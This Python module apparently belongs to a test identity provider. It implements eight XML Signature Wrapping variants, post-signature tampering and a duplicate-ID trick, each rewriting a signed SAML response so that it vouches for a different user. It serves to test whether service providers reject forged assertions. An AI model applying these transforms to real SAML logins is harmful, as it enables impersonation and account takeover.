"""XML manipulations for the test IdP's attack modes (see idp.py), done with lxml on already signed responses.

Nothing here signs: each function takes the root of a parsed, signed samlp:Response and rearranges or edits it, so the
signature bytes stay what the IdP produced. The XML Signature wrapping layouts follow SAML Raider's XSWHelpers
(CompassSecurity/SAMLRaider), itself after Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012).
"""

import copy

from lxml import etree

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS}

EVIL_RESPONSE_ID = "_evil_response_ID"
EVIL_ASSERTION_ID = "_evil_assertion_ID"


def first(node, path):
    found = node.find(path, NS)
    if found is None:
        raise ValueError(f"no {path} in {node.tag}")
    return found


def own_signature(element):
    """The ds:Signature that is a direct child of element."""
    return first(element, "ds:Signature")


def set_name_id(assertion, old, new):
    """Makes assertion speak for `new`: its NameID text and any attribute value equal to the old name."""
    first(assertion, "saml:Subject/saml:NameID").text = new
    for value in assertion.iterfind("saml:AttributeStatement/saml:Attribute/saml:AttributeValue", NS):
        if value.text == old:
            value.text = new


def evil_clone(assertion, name_id, evil_name_id, new_id=EVIL_ASSERTION_ID):
    """A copy of assertion without its signature, with a new ID, speaking for evil_name_id."""
    clone = copy.deepcopy(assertion)
    signature = clone.find("ds:Signature", NS)
    if signature is not None:
        clone.remove(signature)
    if new_id is not None:
        clone.set("ID", new_id)
    set_name_id(clone, name_id, evil_name_id)
    return clone


def insert_after_issuer(parent, child):
    """Puts child right after parent's Issuer (and its Signature, if any), where schema-wise Extensions go."""
    index = 1
    if len(parent) > 1 and parent[1].tag == f"{{{DS}}}Signature":
        index = 2
    parent.insert(index, child)


# --- Response-level wrapping: the Response itself is signed, the assertion inside is not ----------------------------


def make_evil_response(response, name_id, evil_name_id):
    """The outer Response becomes the evil one: new ID, and its assertion gets a new ID (so that it does not clash
    with the one in the original copy) and speaks for evil_name_id."""
    response.set("ID", EVIL_RESPONSE_ID)
    assertion = first(response, "saml:Assertion")
    assertion.set("ID", EVIL_ASSERTION_ID)
    set_name_id(assertion, name_id, evil_name_id)


def xsw1(response, name_id, evil_name_id):
    """Evil Response (ID _evil_response_ID, evil assertion with ID _evil_assertion_ID) whose ds:Signature carries, as its last child, the
    original Response without its signature; the signature's Reference #<original ID> resolves to that copy."""
    original = copy.deepcopy(response)
    original.remove(own_signature(original))
    signature = own_signature(response)
    signature.append(original)
    make_evil_response(response, name_id, evil_name_id)


def xsw2(response, name_id, evil_name_id):
    """Like xsw1, but the unsigned copy of the original Response is a sibling placed just before the ds:Signature
    (a detached signature) instead of inside it."""
    original = copy.deepcopy(response)
    original.remove(own_signature(original))
    signature = own_signature(response)
    response.insert(response.index(signature), original)
    make_evil_response(response, name_id, evil_name_id)


# --- Assertion-level wrapping: the Assertion is signed, the Response envelope is not ---------------------------------


def xsw3(response, name_id, evil_name_id):
    """Evil unsigned assertion (ID _evil_assertion_ID) inserted before the original signed one, as its sibling."""
    assertion = first(response, "saml:Assertion")
    response.insert(response.index(assertion), evil_clone(assertion, name_id, evil_name_id))


def xsw4(response, name_id, evil_name_id):
    """Evil unsigned assertion replaces the original, which becomes the evil one's last child (still signed)."""
    assertion = first(response, "saml:Assertion")
    evil = evil_clone(assertion, name_id, evil_name_id)
    response.replace(assertion, evil)
    evil.append(assertion)


def xsw5(response, name_id, evil_name_id):
    """The first assertion is made evil (ID _evil_assertion_ID) but keeps the original ds:Signature (Reference
    #<original ID>); an unsigned copy of the original assertion, carrying that ID, is appended at the end of the
    Response."""
    assertion = first(response, "saml:Assertion")
    original = copy.deepcopy(assertion)
    original.remove(own_signature(original))
    response.append(original)
    assertion.set("ID", EVIL_ASSERTION_ID)
    set_name_id(assertion, name_id, evil_name_id)


def xsw6(response, name_id, evil_name_id):
    """Like xsw5, but the unsigned copy of the original assertion goes inside the evil assertion's ds:Signature (as
    its last child) instead of at the end of the Response."""
    assertion = first(response, "saml:Assertion")
    original = copy.deepcopy(assertion)
    original.remove(own_signature(original))
    own_signature(assertion).append(original)
    assertion.set("ID", EVIL_ASSERTION_ID)
    set_name_id(assertion, name_id, evil_name_id)


def xsw7(response, name_id, evil_name_id):
    """A samlp:Extensions element, inserted before the original signed assertion, holding an evil unsigned clone
    (ID _evil_assertion_ID): an SP that takes the first saml:Assertion in document order reads the evil one."""
    assertion = first(response, "saml:Assertion")
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(evil_clone(assertion, name_id, evil_name_id))
    insert_after_issuer(response, extensions)


def xsw8(response, name_id, evil_name_id):
    """Like xsw6, but the unsigned copy of the original assertion sits in a ds:Object appended to the evil
    assertion's ds:Signature."""
    assertion = first(response, "saml:Assertion")
    original = copy.deepcopy(assertion)
    original.remove(own_signature(original))
    obj = etree.SubElement(own_signature(assertion), f"{{{DS}}}Object")
    obj.append(original)
    assertion.set("ID", EVIL_ASSERTION_ID)
    set_name_id(assertion, name_id, evil_name_id)


XSW = {"xsw1": xsw1, "xsw2": xsw2, "xsw3": xsw3, "xsw4": xsw4, "xsw5": xsw5, "xsw6": xsw6, "xsw7": xsw7, "xsw8": xsw8}
# Which part the IdP signs before each wrapping is applied.
XSW_SIGNS_RESPONSE = {"xsw1", "xsw2"}


# --- Other post-signature edits ---------------------------------------------------------------------------------------


def tamper(response, name_id, evil_name_id):
    """Changes the NameID (and matching attribute values) of the assertion after the Response was signed."""
    set_name_id(first(response, "saml:Assertion"), name_id, evil_name_id)


def duplicate_id(response, name_id, evil_name_id):
    """An evil unsigned assertion carrying the SAME ID as the original signed one, placed before it (an SP that
    resolves the Reference by ID with a "first match" lookup would check one element and read the other)."""
    assertion = first(response, "saml:Assertion")
    response.insert(response.index(assertion), evil_clone(assertion, name_id, evil_name_id, new_id=None))
